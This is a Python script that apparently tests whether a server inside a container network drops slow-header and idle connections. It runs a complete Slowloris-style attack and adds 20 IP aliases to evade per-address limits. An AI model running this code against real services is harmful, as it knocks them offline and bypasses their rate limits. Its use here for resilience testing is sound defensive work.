"""Attackers of the edge, for a container in its network, which has Python and nothing else.

    python attack.py HOST SLOW IDLE

Opens SLOW connections that send their headers a byte at a time and never end, and IDLE connections
that send nothing, from 20 addresses, as limits for one address would end this too soon. Prints
"open" when all are there; then, as JSON, how many were cut off and how long the last one lasted.
"""

import contextlib
import fcntl
import ipaddress
import json
import selectors
import socket
import struct
import sys
import time
from typing import cast

PORT = 8080
ADDRESSES = 20
PATIENCE_SECONDS = 90
BEGINNING = b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-Slow: "

GET_ADDRESS, SET_ADDRESS, GET_NETMASK, SET_NETMASK = 0x8915, 0x8916, 0x891B, 0x891C


def interface(request: int, name: str, address: str = "0.0.0.0") -> str:
    """Ask for, or set, an address or netmask of an interface (netdevice(7))."""
    packed = struct.pack("16sH2x4s8x", name.encode(), socket.AF_INET, socket.inet_aton(address))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        answer = fcntl.ioctl(any_socket, request, packed)
    return socket.inet_ntoa(answer[20:24])


def more_addresses() -> list[str]:
    """Give this container more addresses, from the end of its network."""
    own, netmask = interface(GET_ADDRESS, "eth0"), interface(GET_NETMASK, "eth0")
    network = ipaddress.ip_network(f"{own}/{netmask}", strict=False)
    addresses = [str(network.broadcast_address - 1 - i) for i in range(ADDRESSES)]
    for i, address in enumerate(addresses):
        interface(SET_ADDRESS, f"eth0:{i}", address)
        interface(SET_NETMASK, f"eth0:{i}", netmask)
    return addresses


def connect(host: str, sources: list[str], number: int) -> list[socket.socket]:
    """Open connections, from each of our addresses in turn."""
    connections = []
    for i in range(number):
        source = (sources[i % len(sources)], 0)
        connections.append(socket.create_connection((host, PORT), 10, source))
        connections[-1].setblocking(False)
    return connections


def main() -> None:
    """Attack, and report."""
    host, slow, idle = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    sources = more_addresses()
    started = time.monotonic()
    slow_ones, idle_ones = connect(host, sources, slow), connect(host, sources, idle)
    alive = selectors.DefaultSelector()
    for attacker in (*slow_ones, *idle_ones):
        alive.register(attacker, selectors.EVENT_READ)
    print("open", flush=True)

    words, cut = BEGINNING, 0
    while cut < slow + idle and time.monotonic() < started + PATIENCE_SECONDS:
        for attacker in slow_ones:
            with contextlib.suppress(OSError):  # the selector finds out as well
                attacker.send(words)
        words = b"x"
        next_byte = time.monotonic() + 1
        while (wait_seconds := next_byte - time.monotonic()) > 0 and cut < slow + idle:
            for key, _ in alive.select(wait_seconds):
                attacker = cast(socket.socket, key.fileobj)
                with contextlib.suppress(OSError):
                    if attacker.recv(1_000):
                        continue
                alive.unregister(attacker)
                attacker.close()
                cut += 1
    seconds = round(time.monotonic() - started, 1)
    print(json.dumps({"opened": slow + idle, "cut": cut, "longest_seconds": seconds}))


main()
